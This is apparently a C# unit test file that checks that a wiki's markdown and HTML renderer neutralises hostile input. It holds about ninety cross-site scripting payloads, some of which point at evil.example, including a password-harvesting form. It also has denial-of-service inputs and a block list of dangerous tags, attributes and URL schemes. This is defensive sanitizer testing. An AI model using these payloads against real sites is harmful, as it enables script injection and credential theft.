using System.Diagnostics;
using AngleSharp.Html.Parser;
using CollabWiki.Core.Rendering;
using CollabWiki.Core.Spaces;
using CsCheck;

namespace CollabWiki.Tests.Core.Rendering;

[Trait("layer", "unit")]
public sealed class HostileTextTests
{
    private static readonly SpaceKey Docs = SpaceKey.Parse("DOCS");
    private static readonly PageRenderer Renderer = new();
    private static readonly HtmlPolicy Policy = new();

    public static TheoryData<string> Attacks =>
        [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<img \"\"\"><script>alert(1)</script>\">",
            "<img src=x:x onerror=\"&#0000106avascript:alert(1)\">",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></use></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<style>@import 'javascript:alert(1)';</style>",
            "<style><img src=x onerror=alert(1)></style>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<p style=\"position:fixed;inset:0\">x</p>",
            "<div class=\"mud-overlay palette\">x</div>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
            "<embed src=\"javascript:alert(1)\">",
            "<form action=\"https://evil.example\"><input name=password><button>Go</button></form>",
            "<input type=image src=x onerror=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<button formaction=\"javascript:alert(1)\">x</button>",
            "<textarea></textarea><img src=x onerror=alert(1)>",
            "<base href=\"javascript:/\">",
            "<link rel=stylesheet href=\"javascript:alert(1)\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\" &#14; javascript:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
            "<a href=\"&#106;&#97;&#118;&#97;script&colon;alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"file:///etc/passwd\">x</a>",
            "<a href=x onclick=alert(1)>x</a>",
            "<a href=x target=_blank ping=//evil.example>x</a>",
            "[x](javascript:alert(1))",
            "[x](JAVASCRIPT:alert(1))",
            "[x](<javascript:alert(1)>)",
            "[x](javascript&colon;alert(1))",
            "[x](java%73cript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](\u0001javascript:alert(1))",
            "![x](javascript:alert(1))",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
            "[x]: javascript:alert(1)\n\n[x]",
            "<javascript:alert(1)>",
            "<https://example.org/\"onmouseover=alert(1)>",
            "[x](https://example.org \"\" onmouseover=\"alert(1)\")",
            "![\" onerror=alert(1) x=\"](x.png)",
            "[[javascript:alert(1)]]",
            "[[\"><script>alert(1)</script>]]",
            "[[x|<img src=x onerror=alert(1)>]]",
            "[[#\" onclick=alert(1)]]",
            "> [!NOTE\" onclick=alert(1)]\n> x",
            ":::note <script>alert(1)</script>\nx\n:::",
            ":::note\" onclick=\"alert(1)\nx\n:::",
            "```\"><script>alert(1)</script>\nx\n```",
            "```html\n<script>alert(1)</script>\n```",
            "# <img src=x onerror=alert(1)>",
            "# x {onclick=alert(1)}",
            "<h1 id=\"blazor-error-ui\">x</h1>",
            "<div id=\"components-reconnect-modal\" name=body>x</div>",
            "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
            "a[^\"><script>]\n\n[^\"><script>]: <script>alert(1)</script>",
            "---\ntitle: </title><script>alert(1)</script>\n---\n",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><script>alert(1)</script>",
            "<template><script>alert(1)</script></template>",
            "<xmp><p title=\"</xmp><svg onload=alert(1)>\"></xmp>",
            "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
            "<details open ontoggle=alert(1)>x</details>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<table background=\"javascript:alert(1)\"><td>x</table>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<b><p onmouseover=alert(1)>x</b></p>",
            "<a name=x>\n\n# A heading in a link that is never closed\n",
            "<custom-element onclick=alert(1)>x</custom-element>",
            "<img srcset=\"x.png 1x, javascript:alert(1) 2x\">",
            "<select><option><style></select><img src=x onerror=alert(1)>",
        ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void An_attack_is_drawn_as_harmless_html(string text)
    {
        var html = Renderer.Render(Docs, "", text).Html;

        ShouldBeHarmless(html);
        Assert.Equal(html, Policy.Apply(html, new PageAddress(Docs, "")).Html);
    }

    [Theory]
    [InlineData("[")]
    [InlineData("*")]
    [InlineData("`")]
    [InlineData("<")]
    [InlineData("|")]
    [InlineData("[[")]
    [InlineData("![")]
    [InlineData("[a](")]
    [InlineData("![a](")]
    [InlineData("[^a]")]
    [InlineData("[a]: x\n")]
    [InlineData("a*")]
    [InlineData("*a_ ")]
    [InlineData("> ")]
    [InlineData("- ")]
    [InlineData("1. ")]
    [InlineData("- a\n")]
    [InlineData("|-|\n")]
    [InlineData("a|b\n")]
    [InlineData("<div>")]
    [InlineData("<b><p>")]
    [InlineData("<a href=x>")]
    [InlineData("<T>")]
    [InlineData("<div></i>")]
    [InlineData("<table><tr><td>")]
    [InlineData("&#")]
    [InlineData("<x>a</x>")]
    [InlineData("- [ ] a\n")]
    [InlineData("<!--")]
    [InlineData("http://a")]
    [InlineData("# a\n")]
    [InlineData("`a``b```")]
    [InlineData(":::note\n")]
    [InlineData("```cs\n/*\"{\n")]
    public void A_long_text_of_one_thing_is_drawn_within_seconds(string unit)
    {
        var text = string.Concat(Enumerable.Repeat(unit, 300_000 / unit.Length));
        var start = Stopwatch.GetTimestamp();

        var html = Renderer.Render(Docs, "", text).Html;

        Assert.NotNull(html);
        Assert.True(Stopwatch.GetElapsedTime(start) < TimeSpan.FromSeconds(30));
    }

    [Fact]
    public void Quotes_nested_ten_thousand_deep_are_shown_as_they_are()
    {
        var text = string.Concat(Enumerable.Repeat("> ", 10_000)) + "deep";

        var html = Renderer.Render(Docs, "", text).Html;

        Assert.Contains("Shown as plain text", html);
        Assert.Contains("&gt; deep", html);
    }

    [Fact]
    public void A_link_repeated_a_hundred_thousand_times_does_not_fill_the_memory()
    {
        var text =
            $"[a]: <{new string('x', 100_000)}>\n\n"
            + string.Concat(Enumerable.Repeat("[a] ", 100_000));

        Assert.True(Renderer.Render(Docs, "", text).Html.Length < 3_000_000);
    }

    [Fact]
    public void A_wide_table_with_many_rows_does_not_fill_the_memory()
    {
        var text =
            string.Concat(Enumerable.Repeat("|a", 2_000))
            + "|\n"
            + string.Concat(Enumerable.Repeat("|-", 2_000))
            + "|\n"
            + string.Concat(Enumerable.Repeat("|a|\n", 20_000));

        Assert.True(Renderer.Render(Docs, "", text).Html.Length < 3_000_000);
    }

    [Fact]
    public void Tags_that_were_never_meant_as_tags_are_shown_when_there_are_many()
    {
        var text = string.Concat(Enumerable.Repeat("A List<T> of it\n\n", 1_000));

        Assert.Contains("List&lt;T&gt;", Renderer.Render(Docs, "", text).Html);
    }

    [Fact]
    public void Any_text_can_be_drawn_and_drawn_again_the_same()
    {
        string[] pieces =
        [
            "[",
            "]",
            "(",
            ")",
            "[[",
            "]]",
            "|",
            "#",
            "*",
            "_",
            "`",
            "```",
            "\n",
            "\n\n",
            "> ",
            "- ",
            "1. ",
            " ",
            "<",
            ">",
            "<b>",
            "</b>",
            "<div",
            "<p ",
            "id=x",
            "href=\"javascript:x\"",
            "\"",
            "'",
            "a",
            "ü",
            "\ud800",
            "\0",
            "\r",
            "\t",
            "    ",
            "~~",
            ":::note",
            "[!NOTE]",
            "[^1]",
            "[^1]: ",
            "---",
            "|-|",
            "http://x.y",
            "<h1 id=a>",
            "<svg>",
            "<math>",
            "<style>",
            "<table>",
            "<td>",
            "<!--",
            "-->",
            "<![CDATA[",
            "&lt;",
            "&#0;",
            "\\",
            "../",
            "a.md",
            "%zz",
        ];
        Gen.Int[0, pieces.Length - 1]
            .Array[0, 40]
            .Select(picked => string.Concat(picked.Select(i => pieces[i])))
            .Sample(
                text =>
                {
                    var html = Renderer.Render(Docs, "a/b.md", text).Html;
                    ShouldBeHarmless(html);
                    Assert.Equal(html, Policy.Apply(html, new PageAddress(Docs, "a/b.md")).Html);
                },
                iter: 1_000
            );
    }

    private static void ShouldBeHarmless(string html)
    {
        using var document = new HtmlParser().ParseDocument(html);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, ForbiddenTags);
            Assert.DoesNotContain("mud-", element.ClassName ?? "", StringComparison.Ordinal);
            Assert.DoesNotMatch("^(blazor|components)-", element.Id ?? "");
            if (element.LocalName is "svg")
            {
                Assert.Equal("callout-title", element.ParentElement!.ClassName);
            }
            foreach (var attribute in element.Attributes)
            {
                Assert.DoesNotMatch(
                    "^(on.*|style|srcdoc|action|formaction|srcset)$",
                    attribute.Name
                );
                if (attribute.Name is "href" or "src")
                {
                    Assert.DoesNotMatch(
                        @"(?i)^[\s\p{C}]*(j\s*a\s*v\s*a\s*script|data|vbscript|file)\s*:",
                        attribute.Value
                    );
                }
            }
        }
    }

    private static readonly string[] ForbiddenTags =
    [
        .. "script style iframe object embed form button textarea select math base meta link template".Split(
            ' '
        ),
        .. "noscript video audio".Split(' '),
    ];
}
